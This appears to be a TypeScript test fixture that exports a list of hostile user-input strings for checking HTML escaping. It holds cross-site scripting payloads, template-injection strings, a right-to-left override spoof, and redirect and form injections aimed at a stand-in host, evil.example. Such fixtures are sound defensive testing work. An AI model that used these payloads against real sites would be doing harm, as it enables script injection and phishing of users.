/** What people type who mean no good, or whose name happens to look like it; what a browser would make most of comes first. */
export const hostile: readonly string[] = [
  `<script>alert(1)</script>`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">`,
  `<!-- --><iframe srcdoc="<script>alert(1)</script>">`,
  `&lt;img src=x onerror=alert(1)&gt; &#60;b&#62;`,
  `\u202eelorac\u202c <b>bold</b>`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg/onload=alert(1)>`,
  `</title></style></script><script>alert(1)</script>`,
  `javascript:alert(1)//`,
  `" autofocus onfocus="alert(1)`,
  `<a href="javascript:alert(1)">x</a>`,
  `{{constructor.constructor('alert(1)')()}} \${alert(1)}`,
  `]]><![CDATA[<script>alert(1)</script>`,
  `<form action=//evil.example><button>Pay</button>`,
  `O'Brien & Söhne "die" <Gäste>`,
];
